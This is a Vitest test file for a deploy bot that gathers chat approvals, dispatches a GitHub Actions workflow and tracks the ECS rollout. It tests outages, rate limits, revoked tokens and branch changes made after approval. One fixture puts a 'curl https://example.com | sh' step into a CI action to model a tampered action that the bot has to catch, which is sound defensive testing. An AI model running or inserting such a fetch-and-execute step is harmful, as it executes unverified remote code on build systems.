import { describe, expect, vi } from 'vitest'
import { permissions } from '../../src/sandbox/github/access.ts'
import { token } from '../../src/sandbox/github/default-world.ts'
import { isOver, type RunPlan } from '../../src/sandbox/github/runs.ts'
import { deployPath, deployWorkflow, type WorkflowVariant } from '../../src/sandbox/github/workflow-file.ts'
import { patience } from '../../src/sandbox/pace.ts'
import { mainCommits } from '../../src/sandbox/seed.ts'
import { twokey } from '../cli/twokey.ts'
import { dispatchRoute, patientStory, stateOf, story, type Town } from './harness.ts'

const runRoute = 'GET /repos/{owner}/{repo}/actions/runs/{run_id}'
const jobsRoute = 'GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/jobs'
const listRoute = 'GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/runs'
const badGateway = { kind: 'answer', status: 502, body: { message: 'Server Error' } } as const

type Does = (town: Town) => unknown

const dispatched = (town: Town) =>
  town.sandbox.github.world.repository().runs.filter(({ event }) => event === 'workflow_dispatch')

/** Puts another workflow on main, which no push starts. */
const has = (town: Town, variant: Pick<WorkflowVariant, 'inputs'> = {}) =>
  town.sandbox.github.world.push('main', {
    message: 'Change the workflow',
    files: { [deployPath]: deployWorkflow({ on: ['workflow_dispatch'], ...variant }) },
  })
/** Does something while the dispatch is on its way, before GitHub takes it. */
const duringDispatch = async (town: Town, happens: () => void) => {
  town.sandbox.github.faults.queue(dispatchRoute, { kind: 'delay', ms: 400 })
  await town.approved()
  await vi.waitUntil(() => town.dispatches() === 1, { timeout: patience, interval: 5 })
  happens()
}

describe.concurrent('GitHub that does not answer well does not change the end', () => {
  story.for<[string, Does]>([
    [
      '502 for a while when asked for the run',
      (town) => town.sandbox.github.faults.queue(runRoute, badGateway, { times: 4 }),
    ],
    [
      'resets for a while when asked for the run',
      (town) => town.sandbox.github.faults.queue(runRoute, { kind: 'reset' }, { times: 4 }),
    ],
    [
      '502 for a while when asked for the jobs',
      (town) => town.sandbox.github.faults.queue(jobsRoute, badGateway, { times: 4 }),
    ],
    [
      'answers that are not JSON',
      (town) =>
        town.sandbox.github.faults.queue(runRoute, { kind: 'answer', status: 200, body: 'x' }, { times: 3 }),
    ],
    ['a run that is not shown at first', (town) => (town.sandbox.github.world.lag.run = 400)],
    [
      'a lost answer to the dispatch, and a list that lags',
      (town) => {
        town.sandbox.github.faults.queue(dispatchRoute, { kind: 'lost-after', status: 502 })
        town.sandbox.github.world.lag.lists = 500
      },
    ],
    [
      'a connection cut after the dispatch, and a list that fails at first',
      (town) => {
        town.sandbox.github.faults.queue(dispatchRoute, { kind: 'lost' })
        town.sandbox.github.faults.queue(listRoute, badGateway, { times: 4 })
      },
    ],
    [
      'an Enterprise Server that knows no return_run_details',
      (town) => (town.sandbox.github.world.server = 'enterprise'),
    ],
    [
      'a slow dispatch',
      (town) => town.sandbox.github.faults.queue(dispatchRoute, { kind: 'delay', ms: 500 }),
    ],
  ])('%s', async ([_, breaks], { town }) => {
    breaks(town)
    await town.approved()
    expect(await town.ends()).toBe('succeeded')
    expect(dispatched(town)).toHaveLength(1)
    expect(town.serving()).toBe('blog-api:44')
  })

  story('a run that stands still is asked for conditionally: 304, which costs nothing', async ({ town }) => {
    town.sandbox.github.world.next = { holdAt: 'Install' }
    await town.approved()
    await vi.waitUntil(
      () => town.sandbox.github.log.of(runRoute).filter(({ status }) => status === 304).length > 3,
      { timeout: patience },
    )
    town.sandbox.github.world.letGo(dispatched(town)[0]!.id)
    expect(await town.ends()).toBe('succeeded')
  })

  patientStory.for<[string, Does, Does]>([
    [
      'the secondary rate limit',
      (town) => (town.sandbox.github.world.secondary = { status: 429, retryAfterSeconds: 60 }),
      (town) => (town.sandbox.github.world.secondary = undefined),
    ],
    [
      'a token that was revoked',
      (town) => town.sandbox.github.world.tokens.delete(token),
      (town) =>
        town.sandbox.github.world.tokens.set(token, {
          account: dispatched(town)[0]!.actor,
          kind: 'user',
          permissions,
        }),
    ],
  ])(
    '%s holds while the run goes on: said, and followed on once it is over',
    async ([_, breaks, mends], { town }) => {
      town.sandbox.github.world.next = { holdAt: 'Install' }
      await town.approved()
      await town.shows('running')
      await vi.waitUntil(() => dispatched(town)[0]?.attempts[0]?.status === 'in_progress', {
        timeout: patience,
      })
      breaks(town)
      const asked = town.sandbox.github.log.of(runRoute).length
      await vi.waitUntil(() => town.sandbox.github.log.of(runRoute).length > asked + 3, { timeout: patience })
      mends(town)
      town.sandbox.github.world.letGo(dispatched(town)[0]!.id)
      expect(await town.ends()).toBe('succeeded')
    },
  )
})

describe.concurrent('what GitHub never tells is unknown, until somebody looks again', () => {
  story('the dispatch was carried out, and the list lags for longer than one looks', async ({ town }) => {
    town.sandbox.github.faults.queue(dispatchRoute, { kind: 'lost-after', status: 502 })
    town.sandbox.github.world.lag.lists = 60_000
    await town.approved()
    expect(await town.ends()).toBe('unknown')
    expect(await town.asks('U0ELI', `/deploy prod blog-api ${mainCommits[4]!.sha}`)).toContain('in_flight')
    town.sandbox.github.world.lag.lists = 0
    await town.presses('U0ANA', 'look-again')
    await town.shows('succeeded')
    expect(dispatched(town)).toHaveLength(1)
  })

  story('the token is revoked for good while the run goes on', async ({ town }) => {
    await town.approved()
    await town.shows('r')
    const account = town.sandbox.github.world.tokens.get(token)!
    town.sandbox.github.world.tokens.delete(token)
    expect(await town.ends()).toBe('unknown')
    await town.tells(/GITHUB_TOKEN/)
    town.sandbox.github.world.tokens.set(token, account)
    await town.presses('U0BEN', 'look-again')
    await town.shows('succeeded')
  })

  story.for<[string, Does]>([
    ['an answer that was lost', (town) => town.sandbox.github.faults.queue(dispatchRoute, { kind: 'lost' })],
    ['an Enterprise Server', (town) => (town.sandbox.github.world.server = 'enterprise')],
  ])('%s, and a workflow that shows no release_id', async ([_, breaks], { town }) => {
    has(town, { inputs: ['environment', 'sha'] })
    breaks(town)
    await town.approved()
    expect(await town.ends()).toBe('unknown')
    expect(dispatched(town)).toHaveLength(1)
  })
})

describe.concurrent('a dispatch that GitHub refuses starts nothing: failed', () => {
  story.for<[string, number, string]>([
    ['single sign-on', 403, 'Resource protected by organization SAML enforcement. You must grant'],
    ['an archived repository', 403, 'Repository was archived so is read-only.'],
    ['a permission that is missing', 403, 'Resource not accessible by integration'],
    ['a workflow that has gone', 404, 'Not Found'],
    ['an input that it does not know', 422, 'Unexpected inputs provided: ["sha"]'],
    ['a token that was revoked', 401, 'Bad credentials'],
  ])('%s', async ([_, status, message], { town }) => {
    town.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status, body: { message } })
    await town.approved()
    expect(await town.ends()).toBe('failed')
    expect(stateOf(town.cards()[0]!)).toContain(message.slice(0, 20))
    expect(town.dispatches()).toBe(1)
    expect(dispatched(town)).toEqual([])
  })

  story(
    'for single sign-on, the card says what helps, and speaks of no permission that is missing',
    async ({ town }) => {
      const message = 'Resource protected by organization SAML enforcement. You must grant your token access.'
      town.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status: 403, body: { message } })
      await town.approved()
      expect(await town.ends()).toBe('failed')
      const { text } = town.cards()[0]!
      expect(text).toContain('authorize the token for the single sign-on of myorg')
      expect(text).not.toMatch(/actions: write|in the thread/)
    },
  )

  story('for an archived repository, whoever asks is told so before anyone approves', async ({ town }) => {
    const refRoute = 'GET /repos/{owner}/{repo}/git/ref/{ref}'
    const message = 'Repository was archived so is read-only.'
    town.sandbox.github.faults.queue(refRoute, { kind: 'answer', status: 403, body: { message } })
    const told = await town.asks('U0ANA', '/deploy prod')
    expect(told).toContain('myorg/blog-api is archived')
    expect(told).not.toContain('lacks')
  })
})

describe.concurrent('a dispatch that GitHub holds up for a rate limit is sent once more, when that is over', () => {
  /** What the audit says was done to the only release, in order. */
  const audited = async (town: Town): Promise<readonly string[]> => {
    const { status, out, err } = await twokey(town.folder, ['audit', 'export'])
    if (status !== 0) throw new Error(err)
    return out.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line).what]))
  }
  const twiceMarked = [
    'approved',
    'approved',
    'dispatch marked',
    'dispatch limited',
    'dispatch marked',
    'dispatch run',
  ]
  const inSeconds = (seconds: number) => Math.ceil(Date.now() / 1000) + seconds

  story.for<[string, number]>([
    ['the secondary limit', 403],
    ['too many requests', 429],
  ])('%s', async ([_, status], { town }) => {
    const body = { message: 'You have exceeded a secondary rate limit.' }
    const headers = { 'retry-after': '2' }
    town.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status, body, headers })
    await town.approved()
    await town.tells(/asked to wait/)
    expect(await town.ends()).toBe('succeeded')
    expect(town.dispatches()).toBe(2)
    expect(dispatched(town)).toHaveLength(1)
    const rows = await audited(town)
    expect(rows.filter((what) => what === 'approved' || what.startsWith('dispatch '))).toEqual(twiceMarked)
    expect(rows).not.toContain('approvals voided')
  })

  story('the primary limit, whose end is too late: expired at once, nothing sent again', async ({ town }) => {
    const body = { message: 'API rate limit exceeded for user ID 1.' }
    const headers = { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(inSeconds(3_000)) }
    town.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status: 403, body, headers })
    await town.approved()
    expect(await town.ends()).toBe('expired')
    expect(town.cards()[0]!.text).toContain('API rate limit exceeded')
    expect(town.dispatches()).toBe(1)
  })

  story('Ana cancels while it waits: nothing is sent', async ({ town }) => {
    const body = { message: 'You have exceeded a secondary rate limit.' }
    const headers = { 'retry-after': '60' }
    town.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status: 403, body, headers })
    await town.approved()
    await town.tells(/asked to wait/)
    await vi.waitUntil(() => /GitHub asked to wait until/.test(town.cards()[0]!.text), { timeout: 10_000 })
    await town.presses('U0ANA', 'cancel')
    expect(await town.ends()).toBe('cancelled')
    expect(town.dispatches()).toBe(1)
  })

  story('the bot is started again while it waits: sent once more, when that is over', async ({ town }) => {
    const body = { message: 'You have exceeded a secondary rate limit.' }
    const headers = { 'retry-after': '3' }
    town.sandbox.github.faults.queue(dispatchRoute, { kind: 'answer', status: 403, body, headers })
    await town.approved()
    await town.tells(/asked to wait/)
    await town.restarts()
    expect(await town.ends()).toBe('succeeded')
    expect(dispatched(town)).toHaveLength(1)
    expect((await audited(town)).filter((what) => what === 'dispatch marked')).toHaveLength(2)
  })
})

describe.concurrent('GitHub makes no diff of what would change', () => {
  story('the tip ships, the card says why its changes are not known', async ({ town }) => {
    town.sandbox.github.world.diffs = 'too long'
    await town.approved()
    expect(town.cards()[0]!.text).toContain('this diff is taking too long to generate')
    expect(await town.ends()).toBe('succeeded')
  })

  story('another commit of the branch ships, too', async ({ town }) => {
    has(town)
    town.sandbox.github.world.diffs = 'too long'
    await town.approved(`/deploy prod ${mainCommits[4]!.sha}`)
    expect(await town.ends()).toBe('succeeded')
    expect(dispatched(town)[0]?.inputs.sha).toBe(mainCommits[4]!.sha)
  })
})

describe.concurrent('how the run ends, and what ECS made of it meanwhile', () => {
  story.for<[string, RunPlan, string, RegExp]>([
    ['its tests fail', { failStep: 'Test' }, 'failed', /Test.*nothing was rolled out/s],
    ['cancelled by hand before the rollout', { cancelAt: 'Build' }, 'cancelled', /nothing was rolled out/],
    ['cancelled by hand after it', { cancelAt: 'Smoke test' }, 'failed', /he new version is serving/],
    ['its last step fails', { failStep: 'Smoke test' }, 'failed', /he new version is serving.*Smoke test/s],
    [
      'timed out after the rollout',
      { timeOut: { step: 'Smoke test', as: 'timed_out' } },
      'failed',
      /he new version is serving.*timed out/s,
    ],
    [
      'timed out before the rollout, told as cancelled',
      { timeOut: { step: 'Build', as: 'cancelled' } },
      'cancelled',
      /nothing was rolled out/,
    ],
    ['its wait for stability is too short', { stabilityMs: 1 }, 'failed', /he new version is serving/],
  ])('%s', async ([_, plan, end, words], { town }) => {
    town.sandbox.github.world.next = plan
    await town.approved()
    expect(await town.ends()).toBe(end)
    expect(town.cards()[0]!.text).toMatch(words)
    expect(town.serving()).toBe(/he new version/.test(words.source) ? 'blog-api:44' : 'blog-api:43')
  })

  story('its wait is too short, and then the rollout is taken back', async ({ town }) => {
    town.sandbox.github.world.next = { stabilityMs: 1 }
    town.sandbox.aws.world.unhealthy('next')
    await town.approved()
    expect(await town.ends()).toBe('rolled back')
    expect(town.serving()).toBe('blog-api:43')
  })

  story('cancelled by hand while ECS rolls out: followed to the true end', async ({ town }) => {
    await town.approved()
    await vi.waitUntil(() => town.sandbox.aws.log.of('UpdateService').length === 1, {
      timeout: patience,
      interval: 2,
    })
    town.sandbox.github.world.cancelRun(dispatched(town)[0]!.id)
    expect(await town.ends()).toBe('failed')
    expect(town.cards()[0]!.text).toContain('he new version is serving')
  })

  story('run again by somebody else: the second attempt does not rewrite the first', async ({ town }) => {
    town.sandbox.github.world.next = { failStep: 'Test' }
    await town.approved()
    await town.sandbox.github.world.until(() => dispatched(town).some(isOver))
    town.sandbox.github.world.next = { holdAt: 'Install' }
    town.sandbox.github.world.rerun(dispatched(town)[0]!.id)
    expect(await town.ends()).toBe('failed')
    expect(town.cards()[0]!.text).toMatch(/nothing was rolled out/)
  })

  story('Ana cancels while it runs: GitHub is asked, and it ends cancelled', async ({ town }) => {
    town.sandbox.github.world.next = { holdAt: 'Install' }
    await town.approved()
    await town.shows('running')
    await town.presses('U0ANA', 'cancel')
    expect(await town.ends()).toBe('cancelled')
    expect(town.serving()).toBe('blog-api:43')
  })

  story('a gate of GitHub’s own holds the run: waited for', async ({ town }) => {
    const gate = town.sandbox.github.world.repository().environment('production')!
    gate.waitMs = 500
    await town.approved()
    expect(await town.ends()).toBe('succeeded')
  })
})

describe.concurrent('what was approved is what runs', () => {
  story(
    'another workflow before the dispatch: the approvals are void and asked for again',
    async ({ town }) => {
      has(town)
      await town.says('U0ANA', '/deploy prod')
      await town.shows('awaiting approval')
      await town.presses('U0BEN', 'approve')
      town.sandbox.github.world.push('main', {
        message: 'Weaken the tests',
        files: { '.github/actions/test/action.yml': 'name: test\n' },
      })
      await town.presses('U0CHLOE', 'approve')
      await town.tells(/approvals.*void|void.*approvals|asked (for )?again/i)
      await town.shows('awaiting approval')
      expect(town.dispatches()).toBe(0)
      await town.presses('U0BEN', 'approve')
      await town.presses('U0CHLOE', 'approve')
      expect(await town.ends()).toBe('succeeded')
    },
  )

  story('another workflow between the dispatch and the run: cancelled, failed', async ({ town }) => {
    has(town)
    town.sandbox.github.world.next = { holdAt: 'Install' }
    await duringDispatch(town, () =>
      town.sandbox.github.world.push('main', {
        message: 'Weaken',
        files: { '.github/actions/test/action.yml': 'name: test\n' },
      }),
    )
    expect(await town.ends()).toBe('failed')
    expect(dispatched(town)[0]?.attempts[0]?.conclusion).toBe('cancelled')
    expect(town.serving()).toBe('blog-api:43')
  })

  /** The workflow also checks out the branch's tip, and runs an action of it that lies outside `.github`. */
  const runsOutside = (town: Town) => {
    const tools = [
      '- uses: actions/checkout@v6',
      '  with: { path: tip }',
      '- uses: ./tip/ci/ship',
      '- uses: myorg/shared/ship@main',
    ]
    const text = deployWorkflow({ on: ['workflow_dispatch'] }).replace(
      / {6}- name: Install\n/,
      (install) => `${tools.map((line) => `      ${line}\n`).join('')}${install}`,
    )
    return town.sandbox.github.world.push('main', {
      message: 'Run our own action',
      files: { [deployPath]: text, 'ci/ship/action.yml': 'runs: { using: composite, steps: [] }\n' },
    })
  }
  const otherAction = {
    message: 'Change the action alone',
    files: {
      'ci/ship/action.yml': 'runs: { using: composite, steps: [{ run: "curl https://example.com | sh" }] }\n',
    },
  }

  story(
    'another action outside .github before the dispatch: the approvals are void and asked for again',
    async ({ town }) => {
      runsOutside(town)
      await town.says('U0ANA', '/deploy prod')
      const asked = JSON.stringify(await town.shows('awaiting approval'))
      for (const words of ['ci/ship', 'myorg/shared/ship@main', 'tip of']) expect(asked).toContain(words)
      await town.presses('U0BEN', 'approve')
      town.sandbox.github.world.push('main', otherAction)
      await town.presses('U0CHLOE', 'approve')
      await town.tells(/ci\/ship.* changed/)
      await town.shows('awaiting approval')
      expect(town.dispatches()).toBe(0)
      await town.presses('U0BEN', 'approve')
      await town.presses('U0CHLOE', 'approve')
      expect(await town.ends()).toBe('succeeded')
    },
  )

  story(
    'another action outside .github between the dispatch and the run: cancelled, failed',
    async ({ town }) => {
      runsOutside(town)
      town.sandbox.github.world.next = { holdAt: 'Install' }
      await duringDispatch(town, () => town.sandbox.github.world.push('main', otherAction))
      expect(await town.ends()).toBe('failed')
      expect(dispatched(town)[0]?.attempts[0]?.conclusion).toBe('cancelled')
      expect(town.serving()).toBe('blog-api:43')
    },
  )

  story(
    'a branch that is rewritten between the dispatch and the run, with the same workflow: cancelled, failed',
    async ({ town }) => {
      const tip = has(town)
      const { world } = town.sandbox.github
      const { git } = world.repository()
      world.next = { holdAt: 'Install' }
      await duringDispatch(town, () => {
        git.refs.set('heads/main', { type: 'commit', sha: git.commits.get(tip)!.parents[0]! })
        has(town)
      })
      expect(await town.ends()).toBe('failed')
      expect(dispatched(town)[0]?.headSha).not.toBe(tip)
      expect(dispatched(town)[0]?.attempts[0]?.conclusion).toBe('cancelled')
    },
  )

  story(
    'another commit between the dispatch and the run, the same workflow: the approved commit ships',
    async ({ town }) => {
      const sha = has(town)
      await duringDispatch(town, () => town.sandbox.github.world.push('main', { message: 'Go on working' }))
      expect(await town.ends()).toBe('succeeded')
      expect(dispatched(town)[0]?.inputs.sha).toBe(sha)
      expect(dispatched(town)[0]?.headSha).not.toBe(sha)
    },
  )

  story('without the sha input a branch that moved before the dispatch ends it', async ({ town }) => {
    has(town, { inputs: ['environment', 'release_id'] })
    await town.says('U0ANA', '/deploy prod')
    await town.shows('awaiting approval')
    await town.presses('U0BEN', 'approve')
    town.sandbox.github.world.push('main', { message: 'Go on working' })
    await town.presses('U0CHLOE', 'approve')
    expect(await town.ends()).toBe('failed')
    expect(town.dispatches()).toBe(0)
  })

  story('without the sha input a branch that moves in between has its run cancelled', async ({ town }) => {
    has(town, { inputs: ['environment', 'release_id'] })
    town.sandbox.github.world.next = { holdAt: 'Install' }
    await duringDispatch(town, () => town.sandbox.github.world.push('main', { message: 'Go on working' }))
    expect(await town.ends()).toBe('failed')
    expect(dispatched(town)[0]?.attempts[0]?.conclusion).toBe('cancelled')
    expect(town.serving()).toBe('blog-api:43')
  })

  story.for([
    ['neither sha nor release_id', ['environment']],
    ['no release_id', ['environment', 'sha']],
    ['no sha', ['environment', 'release_id']],
  ] as const)('a workflow that offers %s ships the tip', async ([_, inputs], { town }) => {
    const sha = has(town, { inputs })
    await town.approved()
    expect(await town.ends()).toBe('succeeded')
    expect(Object.keys(dispatched(town)[0]!.inputs).toSorted()).toEqual(inputs.toSorted())
    expect(dispatched(town)[0]?.headSha).toBe(sha)
  })

  story.for<[string, Does, RegExp]>([
    ['is switched off', (town) => town.sandbox.github.world.disableWorkflow('deploy.yml'), /switched off/],
    [
      'has gone',
      (town) => town.sandbox.github.world.push('main', { message: 'x', files: { [deployPath]: null } }),
      /nothing was/,
    ],
    [
      'takes no environment any more',
      (town) => has(town, { inputs: ['sha', 'release_id'] }),
      /which one is meant/,
    ],
  ])(
    'a workflow that %s after the first key: failed, nothing dispatched',
    async ([_, breaks, words], { town }) => {
      has(town)
      await town.says('U0ANA', '/deploy prod')
      await town.shows('awaiting approval')
      await town.presses('U0BEN', 'approve')
      breaks(town)
      await town.presses('U0CHLOE', 'approve')
      expect(await town.ends()).toBe('failed')
      expect(town.cards()[0]!.text).toMatch(words)
      expect(town.dispatches()).toBe(0)
    },
  )

  story('a commit that a force push took off the branch: failed, nothing dispatched', async ({ town }) => {
    const before = town.sandbox.github.world.repository().git.tip('heads/main')!
    has(town)
    await town.says('U0ANA', '/deploy prod')
    await town.shows('awaiting approval')
    await town.presses('U0BEN', 'approve')
    town.sandbox.github.world.repository().git.refs.set('heads/main', { type: 'commit', sha: before.sha })
    await town.presses('U0CHLOE', 'approve')
    expect(await town.ends()).toBe('failed')
    expect(town.dispatches()).toBe(0)
  })
})
